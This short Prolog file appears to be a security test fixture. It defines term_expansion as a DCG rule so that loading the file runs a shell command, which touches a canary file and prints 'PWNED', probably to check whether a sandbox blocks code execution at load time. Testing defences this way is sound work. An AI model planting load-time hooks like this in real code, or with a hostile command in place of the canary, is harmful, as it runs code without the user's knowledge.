:- encoding(utf8).
%   Attack: term_expansion/2 written as a DCG rule (two hidden arguments).
term_expansion --> { shell('touch "$PYREASON_CANARY"; echo PWNED') }, { fail }.
:- include(base).
